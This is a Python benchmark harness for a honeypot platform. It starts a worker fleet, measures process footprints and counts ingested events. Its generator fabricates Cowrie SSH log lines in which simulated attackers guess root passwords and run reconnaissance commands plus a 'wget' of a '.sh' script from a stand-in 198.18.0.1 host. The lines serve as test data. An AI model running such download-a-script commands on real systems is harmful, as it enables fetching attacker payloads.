# SPDX-License-Identifier: MIT
"""The private fleet that the footprint benchmark measures, and the log that it reads."""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import random
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import footprint_workers

from decnet.drill.private import free_block, settings_text
from decnet_core.footprint import Footprint, children_of, measure
from decnet_core.runtime import worker_registry
from decnet_core.runtime.restarts.policy import Phase
from decnet_core.state import State
from decnet_core.supervise.lifecycle import Status
from decnet_core.supervise.status_file import SupervisorStatus, read_status_files
from decnet_models.database.engine import open_engine, reading
from decnet_models.events.queries import last_seq
from decnet_models.migrations.upgrade import upgrade

ATTACKERS = 2000
DRAIN_SECONDS = 60.0
READY_SECONDS = 60.0
REST_SECONDS = 120.0
"""Until a fleet at rest must have parked who can be."""
_NOT_PASSED_ON = ("DECNET_", "PYTHONDONTWRITEBYTECODE")
"""A fleet that compiles what it imports takes three times as long to wake: that is no installation's (`memory.md`)."""
Sample = dict[str, Footprint]


class Fleet:
    """A private fleet with one collected log."""

    def __init__(self, root: Path, workers: str = "usual", *, more: str = "", **variables: str) -> None:
        """`workers` are those of `footprint_workers`.

        `more` is added to the fleet's settings, and `variables` to its environment.
        """
        self._omitted = footprint_workers.omitted(workers)
        self.log = root / "cowrie.json"
        self.log.touch()
        self._root = root
        self._state = root / "state"
        self._state.mkdir()
        self.database = f"sqlite:///{self._state / 'decnet.db'}"
        upgrade(self.database)
        source = f'\n[[collect.source]]\nname = "cowrie"\nformat = "cowrie"\npath = "{self.log}"\n'
        switched_on = footprint_workers.settings_of(workers, root, self._state)
        (root / "decnet.toml").write_text(settings_text(free_block()) + switched_on + more + source)
        outer = {name: value for name, value in os.environ.items() if not name.startswith(_NOT_PASSED_ON)}
        settings = {"DECNET_STATE_DIR": str(self._state), "DECNET_SETTINGS": str(root / "decnet.toml")}
        self.environment = outer | settings | variables

    @contextlib.contextmanager
    def running(self, mode: str) -> Iterator[float]:
        """Run the fleet; yield the seconds from its start until all are ready.

        `up` is `decnet up`, which hosts by fork.
        """
        if mode == "up":
            with self._up() as seconds:
                yield seconds
            return
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as told, (self._root / "log").open("wb") as log:
            told.bind(str(self._root / "notify"))
            told.settimeout(60)
            began = time.monotonic()
            omitted = itertools.chain.from_iterable(("--omit", name) for name in self._omitted)
            process = subprocess.Popen(
                [sys.executable, "-m", "decnet_core.supervise.command", "all", "--mode", mode, *omitted],
                env=self.environment | {"NOTIFY_SOCKET": str(self._root / "notify")},
                stderr=log,
            )
            try:
                if told.recv(100) != b"READY=1":
                    raise SystemExit((self._root / "log").read_text())
                yield time.monotonic() - began
            finally:
                process.send_signal(signal.SIGTERM)
                process.wait(60)

    @contextlib.contextmanager
    def _up(self) -> Iterator[float]:
        if self._omitted:
            raise SystemExit("decnet up runs all workers that are on: leave out --workers, or take all")
        ready, began = self._root / "ready", time.monotonic()
        with (self._root / "log").open("wb") as log:
            process = subprocess.Popen(
                [sys.executable, "-m", "decnet", "up", "--plain", "--ready-file", str(ready)],
                env=self.environment,
                stdout=log,
                stderr=log,
            )
        try:
            while not ready.exists():
                if process.poll() is not None or time.monotonic() - began > READY_SECONDS:
                    raise SystemExit((self._root / "log").read_text())
                time.sleep(0.02)
            yield time.monotonic() - began
        finally:
            process.send_signal(signal.SIGTERM)
            process.wait(60)

    def statuses(self) -> dict[str, Status]:
        """Return what the supervisor says of each worker."""
        report = next(iter(read_status_files(State(self._state).supervisors)))
        return {status.name: status for status in report.workers}

    def rest(self, seconds: float) -> None:
        """Wait until every worker that can be parked is, and then for `seconds`; SystemExit when one never is."""
        deadline = time.monotonic() + REST_SECONDS
        while not all(self.statuses()[name].phase is Phase.PARKED for name in self.statuses() if parks(name)):
            if time.monotonic() > deadline:
                raise SystemExit(f"not parked after {REST_SECONDS:g} s: {self.statuses()}")
            time.sleep(0.05)
        time.sleep(seconds)

    def drill(self) -> None:
        """Have everything done once; SystemExit when the fleet does not hold, apart from who is omitted."""
        done = subprocess.run(
            [sys.executable, "-m", "decnet", "drill", "--json"],
            env=self.environment,
            capture_output=True,
            text=True,
            check=False,
        )
        held = done.returncode == 0
        if not held and self._omitted:
            outcomes = json.loads(done.stdout)["outcomes"]
            held = all(one["holds"] for one in outcomes if one["check"] != "workers answer")
        if not held:
            raise SystemExit(f"the drill does not hold:\n{done.stdout}{done.stderr}")

    def sample(self) -> Sample:
        """Measure every process of the fleet."""
        report = next(iter(read_status_files(State(self._state).supervisors)))
        found = {name: measure(pid) for name, pid in processes(report).items()}
        return {name: one for name, one in found.items() if one is not None}

    def wait_for(self, count: int) -> float:
        """Wait until the database holds `count` events; return the seconds; SystemExit when some never come."""
        began = time.monotonic()
        while (found := self.events()) < count:
            if time.monotonic() - began > DRAIN_SECONDS:
                raise SystemExit(f"{count - found} events never came into the database")
            time.sleep(0.1)
        return time.monotonic() - began

    def events(self) -> int:
        """Return how many events the database holds."""
        engine = open_engine(self.database, read_only=True)
        with reading(engine) as connection:
            count = last_seq(connection)
        engine.dispose()
        return count


def parks(name: str) -> bool:
    """Return whether the worker can be parked."""
    return worker_registry.load(name).parks


def processes(report: SupervisorStatus) -> dict[str, int]:
    """Return the fleet's pids by name; in tasks mode there is one."""
    named = {status.name: status.pid for status in report.workers}
    if set(named.values()) == {report.supervisor}:
        return {"(all in one)": report.supervisor}
    known = {name: pid for name, pid in (named | report.parents).items() if pid}
    beside = {pid for parent in report.parents.values() for pid in children_of(parent)} - set(known.values())
    return known | {f"(beside {number})": pid for number, pid in enumerate(sorted(beside), 1)}


def cowrie_lines() -> Iterator[bytes]:
    """Yield log lines as Cowrie writes them: sessions of many attackers, each a few guesses and commands."""
    chance = random.Random(4)
    while True:
        number = chance.randrange(ATTACKERS)
        session = {"src_ip": f"198.18.{number >> 8}.{number & 255}", "session": f"{chance.getrandbits(48):012x}"}
        yield cowrie_line("session.connect", session, src_port=chance.randrange(1024, 65536), dst_port=2222)
        for _ in range(chance.randrange(1, 6)):
            password = f"secret-{chance.randrange(5000)}"
            yield cowrie_line("login.failed", session, username="root", password=password)
        yield cowrie_line("login.success", session, username="root", password="P@ssw0rd")
        for command in ("uname -a", "cat /proc/cpuinfo", f"wget http://198.18.0.1/{chance.randrange(500)}.sh"):
            yield cowrie_line("command.input", session, input=command)
        yield cowrie_line("session.closed", session, duration="12.5")


def cowrie_line(event: str, session: dict[str, str], **fields: object) -> bytes:
    """Return one line of the log, dated now."""
    now = time.time()
    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)) + f".{int(now % 1 * 1e6):06d}Z"
    common = {"eventid": f"cowrie.{event}", "sensor": "cowrie-1", "protocol": "ssh", "timestamp": stamp}
    return json.dumps({**common, "message": event, **session, **fields}).encode() + b"\n"
